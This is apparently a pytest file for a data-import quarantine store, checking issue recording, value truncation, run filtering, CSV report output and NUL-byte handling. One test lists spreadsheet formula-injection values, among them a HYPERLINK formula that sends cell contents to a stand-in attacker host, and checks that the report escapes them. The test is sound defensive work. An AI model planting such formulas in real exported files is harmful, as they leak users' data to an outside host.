"""Quarantine: invalid rows with field and reason, per run, and a CSV report for the user."""

from __future__ import annotations

import pandas as pd

from b2b_assets.store import Store, write_report


def issues() -> pd.DataFrame:
    return pd.DataFrame({
        "source": ["customers.csv", "customers.csv", "customers.csv"],
        "row_number": [2, 7, None],
        "field": ["email", "organization_name", None],
        "value": ["not-an-email", "x" * 500, None],
        "reason": ["not a valid email", "longer than 255", "file has no header row"],
    })


def test_add_and_read_a_runs_issues(store: Store) -> None:
    assert store.quarantine.add("run-1", "organizations", issues()) == 3
    got = store.quarantine.for_run("run-1")
    assert list(got.columns[:7]) == ["run_id", "entity", "source", "row_number", "field", "value", "reason"]
    assert got["entity"].tolist() == ["organizations"] * 3
    assert got["row_number"].tolist()[:2] == [2, 7] and pd.isna(got["row_number"].iloc[2])
    assert got["reason"].tolist() == issues()["reason"].tolist()
    assert got["value"].iloc[0] == "not-an-email"


def test_long_values_are_truncated_with_an_ellipsis(store: Store) -> None:
    store.quarantine.add("run-1", "organizations", issues())
    value = store.quarantine.for_run("run-1")["value"].iloc[1]
    assert len(value) == 200
    assert value.endswith("…") and value.startswith("xxx")


def test_for_run_filters_by_entity_and_latest_is_the_last_run(store: Store) -> None:
    store.quarantine.add("run-1", "organizations", issues())
    store.quarantine.add("run-1", "users", issues().iloc[:1])
    store.quarantine.add("run-2", "organizations", issues().iloc[:2])
    assert len(store.quarantine.for_run("run-1", "users")) == 1
    assert len(store.quarantine.for_run("run-1", "organizations")) == 3
    latest = store.quarantine.latest("organizations")
    assert set(latest["run_id"]) == {"run-2"} and len(latest) == 2
    assert store.quarantine.latest("locations").empty
    assert store.quarantine.add("run-3", "organizations", issues().iloc[:0]) == 0


def test_report_file(store: Store, tmp_path) -> None:  # noqa: ANN001
    store.quarantine.add("run-1", "organizations", issues())
    path = store.quarantine.write_report(store.quarantine.for_run("run-1"), tmp_path / "reports" / "q.csv")
    assert path.exists()
    report = pd.read_csv(path, keep_default_na=False)
    assert list(report.columns) == ["entity", "source", "row_number", "field", "value", "reason"]
    assert report["reason"].tolist() == issues()["reason"].tolist()
    assert report["row_number"].astype(str).tolist() == ["2", "7", ""]
    assert len(report["value"].iloc[1]) == 200


def test_report_from_raw_validation_issues(tmp_path) -> None:  # noqa: ANN001
    path = write_report(issues(), tmp_path / "raw.csv", entity_name="users")
    report = pd.read_csv(path)
    assert report["entity"].tolist() == ["users"] * 3
    assert report["value"].str.len().max() == 200


def test_report_cells_cannot_run_as_spreadsheet_formulas(store: Store, tmp_path) -> None:  # noqa: ANN001
    risky = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tTab", "\r=1+1"]
    found = pd.DataFrame({"source": "customers.csv", "row_number": range(1, 7), "field": "sales_rep_email",
                          "value": risky, "reason": [f"value {v!r} is not a valid email address" for v in risky]})
    store.quarantine.add("run-1", "organizations", found)
    stored = store.quarantine.for_run("run-1")
    assert stored["value"].tolist() == risky  # the store keeps what the user sent; only the report is escaped
    path = store.quarantine.write_report(stored, tmp_path / "q.csv")
    report = pd.read_csv(path, keep_default_na=False)
    assert report["value"].tolist() == ["'" + v for v in risky]
    assert report["reason"].str.startswith("value ").all() and report["source"].tolist() == ["customers.csv"] * 6


def test_a_nul_byte_in_a_quarantined_value_is_stored_spelled_out(store: Store) -> None:
    found = pd.DataFrame({"source": ["o.csv"], "row_number": [1], "field": ["organization_name"],
                          "value": ["Acme\x00Corp"], "reason": ["contains control character U+0000 (NUL)"]})
    assert store.quarantine.add("run-1", "organizations", found) == 1
    assert store.quarantine.for_run("run-1")["value"].tolist() == ["Acme\\x00Corp"]
